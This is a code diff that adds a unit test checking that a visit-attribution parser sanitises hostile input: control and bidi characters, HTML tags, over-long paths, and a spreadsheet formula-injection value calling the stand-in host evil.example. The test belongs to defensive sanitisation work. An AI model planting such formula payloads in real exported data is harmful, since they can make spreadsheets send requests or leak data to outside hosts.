@@ -26,6 +26,21 @@ describe('where a visit came from', () => {
     })
   })
 
+  it('is cleaned like other text', () => {
+    const sent = {
+      utm_source: ' fly\u0000er\u202e\n ',
+      utm_term: '=IMPORTDATA("http://evil.example")',
+      referrer: 'https://search.example/?q=<b>',
+      landing_path: `/${'a'.repeat(299)}😀`.slice(0, -1),
+    }
+    expect(readAttribution(JSON.stringify(sent))).toEqual({
+      utm_source: 'flyer',
+      utm_term: `'=IMPORTDATA("http://evil.example")`,
+      referrer: 'https://search.example/?q=b',
+      landing_path: `/${'a'.repeat(299)}`,
+    })
+  })
+
   it('is bounded, whatever arrives', () => {
     const sent = {
       utm_source: 'x'.repeat(999),
